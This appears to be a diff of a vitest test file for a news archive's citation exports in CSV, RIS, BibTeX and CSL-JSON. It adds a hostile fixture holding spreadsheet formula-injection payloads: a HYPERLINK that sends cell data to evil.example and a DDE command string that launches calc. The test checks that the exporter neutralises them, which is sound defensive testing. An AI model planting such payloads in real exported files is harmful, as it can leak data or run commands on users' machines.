@@ -1,24 +1,7 @@
-import { Cite } from '@citation-js/core';
-import '@citation-js/plugin-bibtex';
-import '@citation-js/plugin-csl';
-import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import {
-  bibtexText,
-  citationKey,
-  toBibtex,
-  toCslJson,
-  toCsv,
-  toRis,
-  type ExportRecord,
-} from '../../src/search/export';
+import { recordKey, toBibtex, toCslJson, toCsv, toRis, type ExportRecord } from '../../src/search/export';
 import { exportRecord } from '../../src/search/client/export';
-
-/** The CSL items citation-js reads from BibTeX text or CSL-JSON data. */
-function citeData(input: unknown): Record<string, unknown>[] {
-  const Reader = Cite as unknown as new (data: unknown) => { data: Record<string, unknown>[] };
-  return new Reader(input).data;
-}
+import { citeData, readBibtex, readCsv, spreadsheetRuns } from '../support/readers';
 
 const CONTEXT = {
   siteName: 'News Archive',
@@ -65,16 +48,26 @@ function readRis(text: string): Map<string, string[]>[] {
   return records;
 }
 
+/** A result whose every text field is a formula, a hostile title or a Cyrillic one. */
+const HOSTILE: ExportRecord = {
+  title: '=HYPERLINK("http://evil.example/?"&A1,"Click") {unbalanced',
+  authors: ["@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'],
+  published: '2024-02-14T13:00:00+03:00',
+  source: '+Kazinform}',
+  kind: 'Interview',
+  leaders: ['=Leader'],
+  countries: ['\tRussia'],
+  language: 'Russian',
+  lang: 'ru',
+  url: 'https://example.org/archive/articles/2024/02/%D1%82%D0%BE%D0%BA%D0%B0%D0%B5%D0%B2/',
+};
+
 describe('toCsv', () => {
-  it('writes a header row and one row per result after a comment naming the search', () => {
+  it('writes the header as the first row, one row per result, each with the search it came from', () => {
     const text = toCsv([CALL, ODD], CONTEXT);
-    expect(text.split('\r\n')[0]).toBe(`# News Archive search: ${CONTEXT.searchUrl}`);
-    const { data, errors } = Papa.parse<Record<string, string>>(text, {
-      header: true,
-      comments: '#',
-      skipEmptyLines: true,
-    });
-    expect(errors).toEqual([]);
+    expect(text.startsWith('\uFEFFtitle,authors,')).toBe(true);
+    expect(text).not.toMatch(/^\uFEFF?#/);
+    const data = readCsv(text);
     expect(data).toHaveLength(2);
     expect(data[0]).toEqual({
       title: CALL.title,
@@ -86,8 +79,17 @@ describe('toCsv', () => {
       countries: 'Kazakhstan; Tajikistan',
       language: 'English',
       url: CALL.url,
+      search_url: CONTEXT.searchUrl,
     });
     expect(data[1]?.['title']).toBe(ODD.title);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and keeps the text after a mark', () => {
+    const [row] = readCsv(toCsv([HOSTILE], CONTEXT));
+    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
+    expect(row?.['title']).toBe(`'${HOSTILE.title}`);
+    expect(row?.['source']).toBe("'+Kazinform}");
+    expect(row?.['countries']).toBe("'\tRussia");
   });
 });
 
@@ -99,6 +101,7 @@ describe('toRis', () => {
     expect(readRis(text)).toHaveLength(2);
     expect(Object.fromEntries(call ?? [])).toEqual({
       TY: ['NEWS'],
+      ID: ['head-of-state-had-telephone-talk-2021-05'],
       TI: [CALL.title],
       AU: ['Kudrenok Tatyana'],
       PY: ['2021'],
@@ -118,11 +121,18 @@ describe('toRis', () => {
 });
 
 describe('toBibtex', () => {
-  it('writes entries a BibTeX parser reads back, one per result', () => {
-    const text = toBibtex([CALL, ODD], CONTEXT);
+  it('writes entries two BibTeX parsers read back, one per result', () => {
+    const text = toBibtex([CALL, ODD, HOSTILE], CONTEXT);
     expect(text.startsWith('@comment{News Archive search: https://example.org/archive/search/')).toBe(true);
+    const entries = readBibtex(text);
+    expect(entries.map((e) => e.fields['title'])).toEqual([
+      CALL.title,
+      'Токаев: 100% {braces} & "quotes", line break',
+      HOSTILE.title,
+    ]);
+    expect(entries[2]?.fields['journaltitle']).toBe('+Kazinform}');
     const items = citeData(text);
-    expect(items).toHaveLength(2);
+    expect(items).toHaveLength(3);
     // A byline is one name, never split into given and family names.
     expect(items[0]).toMatchObject({
       title: CALL.title,
@@ -131,21 +141,28 @@ describe('toBibtex', () => {
       issued: { 'date-parts': [[2021, 5, 2]] },
       author: [{ family: 'Kudrenok Tatyana' }],
     });
-    expect(items[1]).toMatchObject({ title: 'Токаев: 100% {braces} & "quotes", line break' });
   });
 
-  it('escapes the characters LaTeX treats as commands', () => {
-    expect(bibtexText('50% & $5 #1 a_b {x} ~^\\')).toBe(
-      '50\\% \\& \\$5 \\#1 a\\_b \\{x\\} \\textasciitilde{}\\textasciicircum{}\\textbackslash{}',
-    );
+  it('dates each entry as biblatex reads it, with no month field', () => {
+    const text = toBibtex([CALL], CONTEXT);
+    expect(text).toContain('date = {2021-05-02}');
+    expect(text).not.toMatch(/month\s*=/);
   });
 });
 
-describe('citationKey', () => {
-  it('makes a key of the URL and the year, unique within the file', () => {
-    const taken = new Set<string>();
-    expect(citationKey('https://x.org/articles/2021/05/phone-talk/', 2021, taken)).toBe('phone-talk-2021');
-    expect(citationKey('https://x.org/articles/2021/06/phone-talk/', 2021, taken)).toBe('phone-talk-2021-2');
+describe('recordKey', () => {
+  it('is the key of the article page: file name (in ASCII), year and month of the URL', () => {
+    expect(recordKey(CALL)).toBe('head-of-state-had-telephone-talk-2021-05');
+    expect(recordKey(HOSTILE)).toBe('tokaev-2024-02');
+  });
+
+  it('keys two results of one name in one month apart within a file', () => {
+    const twin = { ...CALL, title: 'Another' };
+    const keys = readBibtex(toBibtex([CALL, twin], CONTEXT)).map((e) => e.key);
+    expect(keys).toEqual([
+      'head-of-state-had-telephone-talk-2021-05',
+      'head-of-state-had-telephone-talk-2021-05-2',
+    ]);
   });
 });
 
@@ -155,7 +172,7 @@ describe('toCslJson', () => {
     const items = citeData(JSON.parse(text));
     expect(items).toHaveLength(2);
     expect(items[0]).toMatchObject({
-      id: 'head-of-state-had-telephone-talk-2021',
+      id: 'head-of-state-had-telephone-talk-2021-05',
       type: 'article-newspaper',
       title: CALL.title,
       author: [{ literal: 'Kudrenok Tatyana' }],
